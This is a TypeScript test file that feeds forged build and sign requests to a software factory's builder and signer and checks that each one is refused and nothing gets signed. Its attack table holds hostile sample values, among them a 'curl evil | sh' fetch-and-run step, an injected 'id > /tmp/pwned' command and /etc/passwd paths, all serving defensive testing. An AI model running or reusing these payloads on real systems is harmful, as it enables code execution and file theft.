/**
 * Forgery: what a client that can publish on the build and sign subjects gets when it tries
 * to make the factory run its code or sign what it did not build. The real handlers of the
 * builder (request.ts, with a real Builder in its sandbox) and the signer (handle.ts) run
 * against real NATS KV (test/harness.ts); messages are decoded with the real contracts, as the
 * consumers do. One real build of `package/motd` from the sample catalog gives the legitimate
 * result every forgery is measured against, and a control attempt shows it is signed.
 *
 * Every attempt is refused, leaves the key's state KV entry byte-identical, and writes no
 * signature (the store and the image layouts are unchanged). Attempts are a table: add a row
 * (e.g. "without credentials", "with another service's identity") with the stage it targets,
 * the message, and what refusal it must meet.
 */
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { chmod, cp, mkdir, readdir } from "node:fs/promises";
import path from "node:path";
import { AdvisoryStore, buildRequestOf, CatalogSource, DesiredState, parseCatalogLocation, ReleaseStore } from "@homeostat/catalog";
import { BUILD_RESULT_PREDICATE_TYPE, signDsse, statementAbout, writeStoreBlob } from "@homeostat/attest";
import {
  buildRequestSchema,
  ContractError,
  decodeMessage,
  encodeMessage,
  keyToken,
  NonRetriableError,
  signRequestSchema,
  StateStore,
  type BuildRequest,
  type EnqueueRequest,
  type Key,
  type Logger,
  type SignRequest,
} from "@homeostat/core";
import { managedKeyProvider, pemKeyProvider } from "@homeostat/key-custody";
import { Builder } from "../services/builder/src/build.ts";
import { resolveIsolation } from "../services/builder/src/isolation.ts";
import { createBuildHandler, type BuildRefusal } from "../services/builder/src/request.ts";
import { createSignHandler } from "../services/signer/src/handle.ts";
import { admit, type SignRefusal } from "../services/signer/src/admit.ts";
import { newSigner } from "./fixtures/images.ts";
import { repoRoot } from "../scripts/factory.ts";
import { testEnv, type TestEnv } from "./harness.ts";

const quiet: Logger = { info() {}, warn() {}, error() {} };
const MOTD: Key = "package/motd";

type Attempt = {
  name: string;
  stage: "build" | "sign";
  /** The message as the attacker sends it; a function sees the legitimate build of motd. */
  message: (legit: Legit) => unknown | Promise<unknown>;
  /** "contract": refused at the edge by the schema; else the refusal reason the handler counts. */
  refused: "contract" | BuildRefusal | SignRefusal;
};

type Legit = { build: BuildRequest; sign: SignRequest; env: TestEnv };

const otherKey = () =>
  pemKeyProvider(
    generateKeyPairSync("ec", { namedCurve: "P-256", privateKeyEncoding: { type: "pkcs8", format: "pem" }, publicKeyEncoding: { type: "spki", format: "pem" } })
      .privateKey,
    "attacker key",
  );

const attempts: Attempt[] = [
  {
    name: "build: a key not in the catalog, carrying its own shell steps",
    stage: "build",
    refused: "contract",
    message: (l) => ({ ...l.build, key: "package/evil", steps: ["curl evil | sh"], source: { url: "file:///etc/passwd", sha256: "0".repeat(64) } }),
  },
  { name: "build: a key not in the catalog", stage: "build", refused: "not-in-catalog", message: (l) => ({ ...l.build, key: "package/evil" }) },
  { name: "build: injected steps for a catalog key", stage: "build", refused: "contract", message: (l) => ({ ...l.build, steps: ["id > /tmp/pwned"] }) },
  { name: "build: the old request shape (v1, recipe inline)", stage: "build", refused: "contract", message: (l) => ({ ...l.build, v: 1 }) },
  { name: "build: a wrong input digest", stage: "build", refused: "input-mismatch", message: (l) => ({ ...l.build, inputDigest: `sha256:${"1".repeat(64)}` }) },
  { name: "build: a wrong version", stage: "build", refused: "version-mismatch", message: (l) => ({ ...l.build, version: "9.9" }) },
  {
    name: "build: a catalog revision this builder cannot have",
    stage: "build",
    refused: "unknown-revision",
    message: (l) => ({ ...l.build, catalogRevision: `sha256:${"2".repeat(64)}` }),
  },
  {
    name: "sign: an OCI layout path outside the data directory",
    stage: "sign",
    refused: "contract",
    message: (l) => ({
      v: 1,
      key: MOTD,
      kind: "package",
      name: "motd",
      version: "1.0",
      inputDigest: l.sign.inputDigest,
      outputs: { archive: l.sign.buildResult, location: "/tmp/evil:1.0" },
    }),
  },
  { name: "sign: a path instead of a digest", stage: "sign", refused: "contract", message: (l) => ({ ...l.sign, buildResult: "/etc/passwd" }) },
  { name: "sign: a location field beside the digest", stage: "sign", refused: "contract", message: (l) => ({ ...l.sign, location: "/tmp/evil" }) },
  { name: "sign: a digest not in the store", stage: "sign", refused: "not-in-store", message: (l) => ({ ...l.sign, buildResult: `sha256:${"3".repeat(64)}` }) },
  {
    name: "sign: a blob in the store that is no build result (an archive)",
    stage: "sign",
    refused: "corrupt",
    message: async (l) => ({ ...l.sign, buildResult: await writeStoreBlob(l.env.config.dataDir, "not an envelope") }),
  },
  {
    name: "sign: a build result signed by an untrusted key",
    stage: "sign",
    refused: "untrusted-builder",
    message: async (l) => ({ ...l.sign, buildResult: await forgedResult(l, await otherKey()) }),
  },
  { name: "sign: the legitimate result for another key", stage: "sign", refused: "result-mismatch", message: (l) => ({ ...l.sign, key: "package/greet" }) },
  {
    name: "sign: the legitimate result under another input digest",
    stage: "sign",
    refused: "result-mismatch",
    message: (l) => ({ ...l.sign, inputDigest: `sha256:${"4".repeat(64)}` }),
  },
];

/** A build result for motd's inputs naming a blob the builder never made, signed by `key`. */
async function forgedResult(l: Legit, key: Awaited<ReturnType<typeof otherKey>>): Promise<string> {
  const evil = await writeStoreBlob(l.env.config.dataDir, "evil archive");
  const predicate = {
    key: MOTD,
    kind: "package",
    name: "motd",
    version: "1.0",
    inputDigest: l.sign.inputDigest,
    catalogRevision: l.build.catalogRevision,
    isolation: "bubblewrap",
    builder: "x",
    outputs: { archive: evil, metadata: evil, provenance: evil },
  };
  return writeStoreBlob(l.env.config.dataDir, await signDsse(statementAbout([{ name: "archive", digest: evil }], BUILD_RESULT_PREDICATE_TYPE, predicate), key));
}

describe("forgery", { timeout: 180_000 }, () => {
  let t: TestEnv;
  let legit: Legit;
  let handleBuild: (req: BuildRequest) => Promise<void>;
  let handleSign: (req: SignRequest) => Promise<void>;
  let state: StateStore;
  const signRequests: SignRequest[] = [];
  /** Sign requests still to fail to send, as when JetStream has no leader for the sign stream. */
  let unsendable = 0;
  const refusals: string[] = [];
  /** What the signer asked the queue for. */
  const enqueued: EnqueueRequest[] = [];

  /** The key's raw KV entry (value and revision) and every file the signer could have written. */
  const snapshot = async (key: Key) => {
    const e = await t.buckets.state.get(keyToken(key));
    const files = async (dir: string) => (await readdir(dir, { recursive: true }).catch(() => [] as string[])).sort();
    return {
      value: e ? Buffer.from(e.value).toString("base64") : null,
      revision: e?.revision ?? 0,
      store: await files(path.join(t.config.dataDir, "store", "blobs")),
      oci: await files(path.join(t.config.dataDir, "oci")),
    };
  };

  before(async () => {
    t = await testEnv();
    // As root the sandbox runs steps as the build uid, which must reach the workspaces.
    await mkdir(t.config.dataDir, { recursive: true });
    for (const d of [t.dir, t.config.dataDir]) await chmod(d, 0o711);
    const catalogDir = path.join(t.dir, "catalog");
    await cp(path.join(repoRoot, "examples"), path.join(t.dir), { recursive: true });
    const catalogs = await CatalogSource.open(parseCatalogLocation(catalogDir), { cacheDir: path.join(t.dir, "cache") });
    state = new StateStore(t.buckets.state);
    const releases = new ReleaseStore(t.buckets.releases);
    const advisories = await AdvisoryStore.open(t.nats);
    const isolation = await resolveIsolation(t.config.buildSandbox);
    const identity = await managedKeyProvider({ dir: t.config.builderDir, name: "builder" });
    const builder = new Builder(
      {
        dataDir: t.config.dataDir,
        timeoutMs: 60_000,
        maxSourceBytes: 1 << 24,
        unpackLimits: { maxBytes: 1 << 26, maxEntries: 10_000 },
        isolation,
        sourceBaseDir: catalogDir,
      },
      { concurrency: 1 },
    );
    handleBuild = createBuildHandler({
      catalogAt: (r) => catalogs.at(r),
      releases,
      advisories,
      state,
      sourceDateEpoch: 0,
      build: (plan) => builder.build(plan),
      dataDir: t.config.dataDir,
      isolation: isolation.kind,
      identity,
      publishSign: async (req) => {
        if (unsendable > 0 && unsendable--) throw new Error("jetstream is not enabled");
        signRequests.push(req);
      },
      refused: (r) => void refusals.push(r),
      log: quiet,
    });
    handleSign = createSignHandler({
      dataDir: t.config.dataDir,
      state,
      trustedBuilderKeys: async () => [identity.publicKeyPem],
      allowUnsandboxed: false,
      signer: await managedKeyProvider({ dir: t.config.signerDir, name: "cosign" }),
      imageRepository: "localhost/homeostat",
      imageVersions: { keep: t.config.imageVersionsKept, graceMs: t.config.buildTimeoutMs },
      enqueue: async (req) => void enqueued.push(req),
      refused: (r) => void refusals.push(r),
      log: quiet,
    });
    // What the reconciler does: decide the build, record it as desired, ask for it.
    const desired = await new DesiredState({
      catalog: catalogs.current(),
      releases: (p) => releases.list(p),
      advisories: (p) => advisories.list(p),
      status: (k) => state.get(k),
      sourceDateEpoch: 0,
    }).package("motd");
    assert.equal(desired.state, "build");
    if (desired.state !== "build") return;
    await state.update(MOTD, () => ({
      ...StateStore.initial(MOTD),
      phase: "Building",
      desiredVersion: desired.version,
      desiredInputDigest: desired.inputDigest,
    }));
    const build = buildRequestOf(desired.plan);
    // A sign request that cannot be sent leaves the key Building, so that the build request's
    // retry runs (a key already Signing is taken as built, and its retry sends nothing).
    unsendable = 1;
    await assert.rejects(handleBuild(decodeMessage(buildRequestSchema, encodeMessage(build))), /jetstream is not enabled/);
    assert.equal((await state.get(MOTD))?.phase, "Building", "a sign request not sent leaves the key Building");
    await handleBuild(decodeMessage(buildRequestSchema, encodeMessage(build)));
    assert.equal(signRequests.length, 1, "the legitimate build was built and handed to the signer");
    assert.equal((await state.get(MOTD))?.phase, "Signing", "and the key says so once it is sent");
    legit = { build, sign: signRequests[0]!, env: t };
  });

  after(async () => {
    await t?.cleanup();
  });

  for (const attempt of attempts) {
    test(`refused: ${attempt.name}`, async () => {
      const message = encodeMessage(await attempt.message(legit));
      const before = await snapshot(MOTD);
      const refusedBefore = refusals.length;
      const sentBefore = signRequests.length;
      const run = async () => {
        if (attempt.stage === "build") await handleBuild(decodeMessage(buildRequestSchema, message));
        else await handleSign(decodeMessage(signRequestSchema, message));
      };
      await assert.rejects(run(), (e: unknown) => {
        if (attempt.refused === "contract") assert.ok(e instanceof ContractError, `refused at the edge by the contract: ${String(e)}`);
        else assert.ok(e instanceof NonRetriableError && e.message.includes(`(${attempt.refused})`), `refused as ${attempt.refused}: ${String(e)}`);
        return true;
      });
      if (attempt.refused !== "contract") assert.deepEqual(refusals.slice(refusedBefore), [attempt.refused], "counted once, by reason");
      assert.equal(signRequests.length, sentBefore, "nothing reached the signer");
      const afterward = await snapshot(MOTD);
      assert.equal(afterward.value, before.value, "the key's state entry is byte-identical");
      assert.equal(afterward.revision, before.revision, "and was not rewritten");
      assert.deepEqual(afterward.oci, before.oci, "no image signature was written");
      assert.deepEqual(afterward.store, before.store, "no blob signature was written");
      assert.equal((await state.get(MOTD))?.actual, undefined, "the key was never signed");
    });
  }

  test("an unsandboxed build result is refused unless HOMEOSTAT_SIGN_UNSANDBOXED", async () => {
    // The legitimate result, as a builder running unsandboxed would vouch for it.
    const identity = await managedKeyProvider({ dir: t.config.builderDir, name: "builder" });
    const { readStoreBlob, openDsse } = await import("@homeostat/attest");
    const { statement } = openDsse(await readStoreBlob(t.config.dataDir, legit.sign.buildResult), [identity.publicKeyPem], BUILD_RESULT_PREDICATE_TYPE);
    const predicate = { ...(statement.predicate as object), isolation: "none" };
    const unsandboxed = await writeStoreBlob(
      t.config.dataDir,
      await signDsse(
        statementAbout(
          statement.subject.map((s) => ({ name: s.name, digest: `sha256:${s.digest.sha256}` })),
          BUILD_RESULT_PREDICATE_TYPE,
          predicate,
        ),
        identity,
      ),
    );
    const before = await snapshot(MOTD);
    await assert.rejects(handleSign({ ...legit.sign, buildResult: unsandboxed }), /\(unsandboxed\)/);
    assert.deepEqual(await snapshot(MOTD), before);
  });

  test("admission vouches for a result (what the signer prepares early on) only once its builder's signature, key and input check out", async () => {
    const identity = await managedKeyProvider({ dir: t.config.builderDir, name: "builder" });
    const vouched: string[] = [];
    const ctx = {
      dataDir: t.config.dataDir,
      trustedBuilderKeys: [identity.publicKeyPem],
      allowUnsandboxed: false,
      status: (k: Key) => state.get(k),
      vouched: (result: { key: string }) => void vouched.push(result.key),
    };
    await assert.rejects(admit(legit.sign, { ...ctx, trustedBuilderKeys: [newSigner().publicKeyPem] }), /untrusted-builder/);
    await assert.rejects(admit({ ...legit.sign, inputDigest: `sha256:${"4".repeat(64)}` }, ctx), /result-mismatch/);
    assert.deepEqual(vouched, [], "nothing vouched for a result that is not a trusted builder's about this key and input");
    // Vouched for, then refused: the key no longer wants this input (the caller undoes what it prepared).
    await assert.rejects(
      admit(legit.sign, { ...ctx, status: async () => ({ ...StateStore.initial(MOTD), desiredInputDigest: `sha256:${"5".repeat(64)}` }) }),
      /not-desired/,
    );
    assert.deepEqual(vouched, [MOTD]);
    assert.equal((await admit(legit.sign, ctx)).key, MOTD);
    assert.deepEqual(vouched, [MOTD, MOTD]);
  });

  test("control: the legitimate sign request is signed and the key becomes Ready", async () => {
    await handleSign(decodeMessage(signRequestSchema, encodeMessage(legit.sign)));
    const s = await state.get(MOTD);
    assert.equal(s?.phase, "Ready");
    assert.equal(s?.actual?.inputDigest, legit.sign.inputDigest);
    assert.equal(s?.actual?.isolation, "bubblewrap");
    assert.ok(s?.actual?.signatures.archive, "the archive is signed");
    assert.equal(
      s?.actual?.outputs.location,
      path.join(t.config.dataDir, "store", "blobs", "sha256", s!.actual!.outputs.archive!.slice(7)),
      "the location is the signer's own reckoning",
    );
    assert.deepEqual(
      enqueued.map((e) => [e.key, e.priority, e.cause.type, e.completes]),
      [[MOTD, "dependency", "built", undefined]],
      "the key is queued to tell its dependents (a build that names no class: in class dependency)",
    );
  });

  test("a build the reconciler asked the signer to complete (no dependents to tell) completes the key: its look is withdrawn, not run", async () => {
    // The same build asked for again, as for a key with no dependents (reconcile.ts signerCompletes).
    const at = new Date().toISOString();
    await state.update(MOTD, (s) =>
      s
        ? {
            ...s,
            phase: "Signing",
            builds: [{ version: s.desiredVersion!, inputDigest: s.desiredInputDigest!, outcome: "requested", at, signerCompletes: true, priority: "advisory" }],
          }
        : undefined,
    );
    enqueued.length = 0;
    await handleSign(decodeMessage(signRequestSchema, encodeMessage(legit.sign)));
    const s = await state.get(MOTD);
    assert.equal(s?.phase, "Ready");
    assert.equal(s?.fannedOut, legit.sign.inputDigest, "told as told: nothing to tell");
    assert.equal(s?.builds?.[0]?.outcome, "succeeded");
    assert.deepEqual(
      enqueued.map((e) => [e.key, e.priority, e.cause.type, e.completes]),
      [[MOTD, "advisory", "built", legit.sign.inputDigest]],
      "the queue withdraws the look that watched for this build (or queues the key when it cannot), in the class where the look waits",
    );
  });
});

// Before any handler sees a forged request, the server refuses it from an identity that is not
// the stage's one sender (packages/core/src/nats-access.ts); test/nats-auth.test.ts has the rest.
describe("forgery at the transport: only the builder may send sign requests, only the reconciler build requests", { timeout: 60_000 }, () => {
  let n: TestEnv;
  before(async () => {
    n = await testEnv();
  });
  after(async () => {
    await n?.cleanup();
  });
  for (const [stage, forgers] of [
    ["sign", ["ingest", "reconciler", "signer", "queue"]],
    ["build", ["ingest", "builder", "signer", "queue"]],
  ] as const) {
    test(`a ${stage} request from ${forgers.join(", ")} is refused and nothing is queued`, async () => {
      for (const forger of forgers) {
        const as = await n.connectAs(forger);
        await assert.rejects(
          as.js.publish(n.nats.topology.subject(stage, "package/libgreet"), JSON.stringify({ v: 2, key: "package/libgreet" })),
          /Permissions Violation for Publish/,
          forger,
        );
      }
      assert.equal((await n.nats.jsm.streams.info(n.nats.topology.stream(stage))).state.messages, 0);
    });
  }
});
